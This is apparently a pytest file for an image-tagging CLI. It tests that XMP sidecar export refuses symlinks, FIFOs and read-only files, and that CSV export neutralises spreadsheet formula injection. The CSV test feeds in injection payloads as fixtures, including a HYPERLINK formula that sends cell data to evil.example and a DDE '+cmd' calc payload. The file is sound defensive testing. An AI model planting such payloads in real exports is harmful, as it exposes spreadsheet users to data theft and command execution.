"""Trust: files written beside the user's images never leave the image's folder nor go
through a symlink (`export --format xmp`), and CSV cells cannot become formulas
(`export --format csv`). Through the real CLI in subprocesses; sidecars read back with
exiftool, CSV with Python's csv module."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from tests.conftest import CliResult, make_image, run_cli
from tests.fakegemini import FakeGemini

FAKE = {"IMGBATCH_RPM": "60000"}  # the fake remote provider: tags w<width>, fake
KEY = "test-key-SECRET-0123456789"
XMP = (
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
    'xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:Rating="3"/></rdf:RDF></x:xmpmeta>\n'
    '<?xpacket end="w"?>\n'
)


def analyze_fake(root: Path) -> None:
    res = run_cli(["analyze", "--provider", "fake", root], env=FAKE, module="tests.fake_cli")
    assert res.rc == 0, res.stderr


def export_xmp(root: Path, *args: str) -> CliResult:
    # a FIFO read by the old code blocked for ever: the timeout turns a hang into a failure
    return run_cli(["export", root, "--format", "xmp", *args], timeout=60)


def warnings_naming(res: CliResult, path: Path) -> list[str]:
    return [line for line in res.stderr.splitlines() if str(path) in line]


def exif_jpeg(path: Path) -> Path:
    """A JPEG with EXIF (Make, Artist) that must survive."""
    path.parent.mkdir(parents=True, exist_ok=True)
    exif = Image.Exif()
    exif[0x010F] = "TestMake"
    exif[0x013B] = "Someone Else"
    Image.new("RGB", (24, 24), (10, 200, 10)).save(path, "JPEG", exif=exif)
    return path


@pytest.fixture(scope="session")
def exiftool() -> str:
    path = shutil.which("exiftool")
    if path is None:
        pytest.skip("exiftool is not installed (Debian: apt-get install libimage-exiftool-perl)")
    return path


def read_tags(exiftool: str, path: Path, *groups: str) -> dict[str, Any]:
    out = subprocess.run(
        [exiftool, "-j", "-G1", *groups, path], capture_output=True, check=True, timeout=60
    )
    tags: dict[str, Any] = json.loads(out.stdout)[0]
    return tags


@pytest.fixture
def photos(tmp_path: Path) -> Path:
    """a.jpg (20 px wide: tags w20, fake) and b.jpg (21 px), analysed by the fake provider."""
    root = tmp_path / "photos"
    make_image(root / "a.jpg", size=(20, 16))
    make_image(root / "b.jpg", size=(21, 16))
    analyze_fake(root)
    return root


# -- item 1: sidecars never write outside their image's folder --------------------------


class TestSidecarsStayInTheImagesFolder:
    def test_a_symlinked_sidecar_is_skipped_and_its_target_neither_created_nor_changed(
        self, photos: Path, tmp_path: Path
    ) -> None:
        outside = tmp_path / "etc"
        outside.mkdir()
        preload = outside / "ld.so.preload"  # does not exist: must not be created
        passwd = outside / "passwd"
        passwd.write_text(XMP)  # an XMP packet even: a link is never followed
        (photos / "a.jpg.xmp").symlink_to(preload)
        (photos / "b.jpg.xmp").symlink_to(passwd)

        dry = export_xmp(photos, "--dry-run")
        assert dry.rc == 1 and dry.stdout == b"", dry.stderr
        res = export_xmp(photos)
        assert res.rc == 1, res.stderr
        for name in ("a.jpg.xmp", "b.jpg.xmp"):
            [warning] = warnings_naming(res, photos / name)  # one warning, naming it
            assert "symlink" in warning
            assert (photos / name).is_symlink()
        assert "0 created, 0 updated, 0 unchanged" in res.stderr and "2 failed" in res.stderr
        assert not preload.exists()
        assert passwd.read_text() == XMP
        assert sorted(p.name for p in outside.iterdir()) == ["passwd"]  # no temp file either
        assert sorted(p.name for p in photos.iterdir()) == [
            "a.jpg",
            "a.jpg.xmp",
            "b.jpg",
            "b.jpg.xmp",
        ]

    def test_a_sidecar_linked_to_another_jpeg_leaves_its_exif_intact(
        self, photos: Path, tmp_path: Path, exiftool: str
    ) -> None:
        other = exif_jpeg(tmp_path / "someone" / "holiday.jpg")
        before = other.read_bytes()
        (photos / "a.jpg.xmp").symlink_to(other)
        res = export_xmp(photos)
        assert res.rc == 1 and "1 created" in res.stderr and "1 failed" in res.stderr
        assert other.read_bytes() == before
        tags = read_tags(exiftool, other, "-EXIF:all")
        assert tags["IFD0:Make"] == "TestMake" and tags["IFD0:Artist"] == "Someone Else"

    def test_a_fifo_or_a_folder_at_the_sidecars_name_is_skipped_without_hanging(
        self, photos: Path
    ) -> None:
        os.mkfifo(photos / "a.jpg.xmp")
        (photos / "b.jpg.xmp").mkdir()
        res = export_xmp(photos)  # the old code waited for a writer on the FIFO for ever
        assert res.rc == 1, res.stderr
        for name in ("a.jpg.xmp", "b.jpg.xmp"):
            [warning] = warnings_naming(res, photos / name)
            assert "not a regular file" in warning
        assert "2 failed" in res.stderr
        assert (photos / "b.jpg.xmp").is_dir() and list((photos / "b.jpg.xmp").iterdir()) == []

    def test_a_regular_file_that_is_not_an_xmp_packet_is_left_untouched(self, photos: Path) -> None:
        # a JPEG exiv2 would happily load (and strip), and plain text: neither is a packet
        jpeg = exif_jpeg(photos / "a.jpg.xmp").read_bytes()
        (photos / "b.jpg.xmp").write_bytes(b"my notes about b\n")
        ino = {n: (photos / n).stat().st_ino for n in ("a.jpg.xmp", "b.jpg.xmp")}
        res = export_xmp(photos)
        assert res.rc == 1, res.stderr
        for name in ("a.jpg.xmp", "b.jpg.xmp"):
            [warning] = warnings_naming(res, photos / name)
            assert "not readable XMP" in warning and "left as it is" in warning
            assert (photos / name).stat().st_ino == ino[name]
        assert (photos / "a.jpg.xmp").read_bytes() == jpeg
        assert (photos / "b.jpg.xmp").read_bytes() == b"my notes about b\n"

    def test_a_read_only_sidecar_is_skipped_not_replaced(self, photos: Path, exiftool: str) -> None:
        ro = photos / "a.jpg.xmp"
        ro.write_text(XMP)
        ro.chmod(0o444)
        rw = photos / "b.jpg.xmp"
        rw.write_text(XMP)
        st = ro.stat()
        res = export_xmp(photos)  # root could write it: read-only is the owner's choice
        assert res.rc == 1, res.stderr
        [warning] = warnings_naming(res, ro)
        assert "read-only" in warning
        assert "0 created, 1 updated" in res.stderr and "1 failed" in res.stderr
        assert ro.read_text() == XMP and (ro.stat().st_ino, ro.stat().st_mode) == (
            st.st_ino,
            st.st_mode,
        )
        tags = read_tags(exiftool, rw, "-XMP:all")  # the writable one is merged as before
        assert tags["XMP-dc:Subject"] == ["w21", "fake"] and tags["XMP-xmp:Rating"] == 3

    @pytest.mark.parametrize("umask", [0o077, 0o022], ids=["umask077", "umask022"])
    def test_a_new_sidecar_has_the_images_bits_plus_owner_write_whatever_the_umask(
        self, photos: Path, umask: int
    ) -> None:
        (photos / "a.jpg").chmod(0o444)  # read-only photos: the sidecar must stay editable
        (photos / "b.jpg").chmod(0o640)
        old = os.umask(umask)  # inherited by the CLI's process
        try:
            res = export_xmp(photos)
        finally:
            os.umask(old)
        assert res.rc == 0, res.stderr
        assert (photos / "a.jpg.xmp").stat().st_mode & 0o7777 == 0o644
        assert (photos / "b.jpg.xmp").stat().st_mode & 0o7777 == 0o640

    def test_temporary_files_of_a_killed_export_are_removed_by_the_next(
        self, photos: Path, tmp_path: Path
    ) -> None:
        leftover = photos / ".a.jpg.xmp.imgbatch-tmp-0123456789abcdef"
        leftover.write_bytes(b"<x:xmpmeta half")
        outside = tmp_path / "keep.txt"
        outside.write_text("keep")
        link = photos / ".b.jpg.xmp.imgbatch-tmp-00000000000000ff"
        link.symlink_to(outside)  # named like ours, but a link: not ours to remove
        busy = photos / ".b.jpg.xmp.imgbatch-tmp-fedcba9876543210"
        busy.write_bytes(b"")
        other = photos / ".a.jpg.xmp.imgbatch-tmp-notours"
        other.write_bytes(b"")
        with busy.open("rb") as held:  # a live export's file: its writer holds the lock
            fcntl.flock(held, fcntl.LOCK_EX)
            res = export_xmp(photos)
        assert res.rc == 0, res.stderr
        assert "2 created" in res.stderr
        assert not leftover.exists()
        assert link.is_symlink() and outside.read_text() == "keep"
        assert busy.exists() and other.exists()

    def test_unchanged_sidecars_and_results_without_tags_are_not_failures(
        self, photos: Path, tmp_path: Path
    ) -> None:
        assert export_xmp(photos).rc == 0
        res = export_xmp(photos)
        assert res.rc == 0 and "0 created, 0 updated, 2 unchanged" in res.stderr
        offline = tmp_path / "offline"
        make_image(offline / "c.jpg")
        assert run_cli(["analyze", offline]).rc == 0  # the offline analyzer: no tags
        res = export_xmp(offline)
        assert res.rc == 0 and "1 results without tags" in res.stderr, res.stderr


# -- item 4: CSV cells cannot become formulas -------------------------------------------


@pytest.fixture
def formulas() -> Iterator[FakeGemini]:
    """A model that copies what is written in the photo into its answer."""

    def answer(record: Any) -> dict[str, Any]:
        return {
            "description": "=1+1",
            "tags": ["@SUM(A1:A9)", "cat"],
            "objects": ["\tsign"],
            "colors": ["red"],
            "mood": "\rcalm",
            "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "plus": "+cmd|' /C calc'!A0",
            "minus": "-2+3",
            "altitude": -12.5,  # numbers stay numbers
            "count": -3,
            "safe": "it's fine",
        }

    with FakeGemini(keys={KEY}, seed=3, responder=answer) as fake:
        yield fake
        assert fake.errors == []


def test_csv_text_cells_that_start_like_a_formula_get_a_leading_quote(
    formulas: FakeGemini, tmp_path: Path
) -> None:
    root = tmp_path / "photos"
    make_image(root / "a.jpg")
    env = {"GEMINI_API_KEY": KEY, "IMGBATCH_GEMINI_BASE_URL": formulas.url, "IMGBATCH_RPM": "6000"}
    assert run_cli(["analyze", root], env=env).rc == 0
    res = run_cli(["export", root, "--format", "csv"])
    assert res.rc == 0, res.stderr
    [row] = list(csv.DictReader(io.StringIO(res.stdout.decode("utf-8"))))
    assert row["description"] == "'=1+1"
    assert row["tags"] == "'@SUM(A1:A9); cat"
    assert row["objects"] == "'\tsign"
    assert row["mood"] == "'\rcalm"
    assert row["text"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["plus"] == "'+cmd|' /C calc'!A0"
    assert row["minus"] == "'-2+3"  # text, even if it looks like a number
    assert row["altitude"] == "-12.5" and row["count"] == "-3"
    assert row["safe"] == "it's fine" and row["colors"] == "red"
    assert row["path"] == str(root / "a.jpg") and row["status"] == "ok"
    assert row["size"] == str((root / "a.jpg").stat().st_size)
